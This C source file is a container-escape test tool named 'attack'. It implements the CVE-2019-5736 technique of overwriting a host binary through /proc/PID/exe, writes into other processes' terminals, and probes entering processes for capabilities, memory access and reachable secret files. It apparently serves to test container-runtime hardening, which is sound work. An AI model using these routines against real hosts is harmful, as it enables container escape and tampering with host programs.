/*
 * attack - attacks by a container's owner on the processes that enter the container. It runs in the container.
 *
 *   attack overwrite PID
 *       opens the process's executable, waits until the process has ended, as the executable of a running
 *       process cannot be written, and overwrites it through the open descriptor: CVE-2019-5736. Prints
 *       `holding`, then `done` or the name of the error.
 *   attack paint NAME
 *       writes PAINTED into every terminal that a process of that name has among its first three descriptors.
 *       Prints `done`, or `no terminal` if there is none.
 *   attack watch MILLISECONDS SECRET
 *       prints `watching`; then, for every process in /proc except init and itself, a line for each state in
 *       which it sees the process: its name, its capabilities, whether its memory can be opened, whether its
 *       program is Java, whether SECRET can be opened below its root, and its descriptors.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { LINE = 4096, MOST_LINES = 4096 };

static int overwrite(const char *pid)
{
	static const char junk[] = "overwritten\n";
	char path[64];
	int held, written;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0) {
		puts(strerrorname_np(errno));
		return 1;
	}
	puts("holding");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/%s", pid);
	while (access(path, F_OK) == 0)
		usleep(1000);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	written = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (written < 0 || write(written, junk, sizeof(junk) - 1) < 0) {
		puts(strerrorname_np(errno));
		return 1;
	}
	puts("done");
	return 0;
}

static int paint_those_of(const char *pid)
{
	int painted = 0;

	for (int fd = 0; fd <= 2; fd++) {
		char path[300];
		int opened;

		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		opened = open(path, O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
		if (opened < 0)
			continue;
		if (isatty(opened))
			painted |= write(opened, "PAINTED", 7) == 7;
		close(opened);
	}
	return painted;
}

static int paint(const char *name)
{
	DIR *all = opendir("/proc");
	struct dirent *entry;
	int painted = 0;

	while (all && (entry = readdir(all))) {
		char path[300], seen_name[64] = "";
		FILE *comm;

		snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
		comm = fopen(path, "r");
		if (!comm)
			continue;
		if (fscanf(comm, "%63s", seen_name) == 1 && strcmp(seen_name, name) == 0)
			painted |= paint_those_of(entry->d_name);
		fclose(comm);
	}
	puts(painted ? "done" : "no terminal");
	return 0;
}

static char seen[MOST_LINES][LINE];
static size_t lines;

static void tell(const char *line)
{
	for (size_t i = 0; i < lines; i++)
		if (strcmp(seen[i], line) == 0)
			return;
	if (lines < MOST_LINES)
		strcpy(seen[lines++], line);
	puts(line);
	fflush(stdout);
}

/* The text of a file in a process's directory; empty if the file is gone or cannot be read. */
static const char *text_of(int process, const char *name)
{
	static char text[1 << 16];
	int fd = openat(process, name, O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	text[length < 0 ? 0 : length] = 0;
	return text;
}

static void field_of_status(int process, const char *field, char *value, size_t size)
{
	const char *at = strstr(text_of(process, "status"), field);

	value[0] = 0;
	if (at)
		snprintf(value, size, "%.*s", (int)strcspn(at + strlen(field), "\n"), at + strlen(field));
}

static const char *opened(int process, const char *name)
{
	int fd = openat(process, name, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return strerrorname_np(errno);
	close(fd);
	return "open";
}

/* The targets of the descriptors, without the inode numbers of pipes and sockets. */
static void descriptors_of(int process, char *list, size_t size)
{
	int fd = openat(process, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *directory = fd < 0 ? NULL : fdopendir(fd);
	struct dirent *entry;
	size_t length = 0;

	list[0] = 0;
	while (directory && (entry = readdir(directory)) && length < size)
		if (entry->d_name[0] != '.') {
			char to[256] = "";
			ssize_t got = readlinkat(fd, entry->d_name, to, sizeof(to) - 1);

			if (got > 0)
				to[strcspn(to, "[")] = 0;
			length += (size_t)snprintf(list + length, size - length, " %s=%s", entry->d_name, to);
		}
	if (directory)
		closedir(directory);
}

static void look_at(int process, const char *secret)
{
	char line[LINE], name[64], capabilities[64], below[256], descriptors[2048];
	const char *memory, *root;
	int is_java;

	field_of_status(process, "Name:\t", name, sizeof(name));
	field_of_status(process, "CapPrm:\t", capabilities, sizeof(capabilities));
	if (!name[0] || !capabilities[0])
		return;
	is_java = strstr(text_of(process, "maps"), "libjvm") != NULL;
	memory = opened(process, "mem");
	snprintf(below, sizeof(below), "root%s", secret);
	root = opened(process, below);
	descriptors_of(process, descriptors, sizeof(descriptors));
	snprintf(line, sizeof(line), "name=%s caps=%s mem=%s java=%d secret=%s%s", name, capabilities, memory,
		 is_java, root, descriptors);
	tell(line);
}

static long now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static int watch(long milliseconds, const char *secret)
{
	long end = now() + milliseconds;

	puts("watching");
	fflush(stdout);
	while (now() < end) {
		DIR *all = opendir("/proc");
		struct dirent *entry;

		while (all && (entry = readdir(all))) {
			long pid = atol(entry->d_name);
			int process;

			if (pid <= 1 || pid == getpid())
				continue;
			process = openat(dirfd(all), entry->d_name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			if (process < 0)
				continue;
			look_at(process, secret);
			close(process);
		}
		if (all)
			closedir(all);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
		return overwrite(argv[2]);
	if (argc == 3 && strcmp(argv[1], "paint") == 0)
		return paint(argv[2]);
	if (argc == 4 && strcmp(argv[1], "watch") == 0)
		return watch(atol(argv[2]), argv[3]);
	fputs("attack: that means nothing\n", stderr);
	return 2;
}
